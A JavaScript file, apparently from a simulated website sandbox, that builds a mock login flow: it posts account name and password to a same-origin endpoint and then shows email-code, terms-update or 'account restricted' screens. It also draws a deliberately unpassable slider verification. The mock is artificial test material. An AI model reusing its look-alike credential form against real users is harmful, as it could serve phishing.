// What the forms of all ages share: how they call, and what they show when they are refused.
(() => {
  const { make } = drawing;

  async function send(path, body) {
    const answer = await fetch(`${path}${location.search}`, {
      method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body),
    });
    return answer.json();
  }

  const button = (text, press, more = {}) =>
    make("button", { type: "button", class: "comet-btn comet-btn-primary", onclick: press, ...more }, make("span", {}, text));

  // A slider that only looks like one: a person would drag it, and the sandbox lets nobody past.
  function slider() {
    const track = make("div", { class: "nc-container", id: "nc_1_wrapper" }, make("span", {}, "Please slide to verify"));
    document.body.append(make("div", { class: "comet-modal-mask" }, track));
  }

  // Sends name and password and shows, in `form`, whatever the site asks for next.
  async function enter(form, typed, wrong) {
    const { outcome, to } = await send("/account/login.do", typed);
    if (outcome === "welcome" || outcome === "verify") window.top.location.href = to;
    else if (outcome === "code" && !typed.code) askCode(form, typed, wrong);
    else if (outcome === "terms") askTerms(form, typed, wrong);
    else if (outcome === "limited") form.replaceChildren(make("h2", {}, "Your account has been restricted"),
      make("p", {}, "For your security, some features are not available. Contact customer service."));
    else wrong(outcome === "code" ? "The code is incorrect." : "Your account name or password is incorrect.");
  }

  function askCode(form, typed, wrong) {
    const digits = [0, 1, 2, 3, 4, 5].map((place) => make("input", { "data-id": String(place), maxlength: "1" }));
    const next = () => enter(form, { ...typed, code: digits.map((one) => one.value).join("") }, wrong);
    form.replaceChildren(make("h2", {}, "Email verification code"),
      make("div", { class: "subTitle_field_item" }, typed.email), ...digits, button("Submit", next, { id: "j-test" }));
  }

  function askTerms(form, typed, wrong) {
    const next = () => enter(form, { ...typed, agreed: true }, wrong);
    form.replaceChildren(make("h2", {}, "We have updated our Terms of Use"),
      make("p", {}, "Please read the new terms before you go on."), button("Agree and continue", next));
  }

  window.signingIn = { send, button, slider, enter };
})();
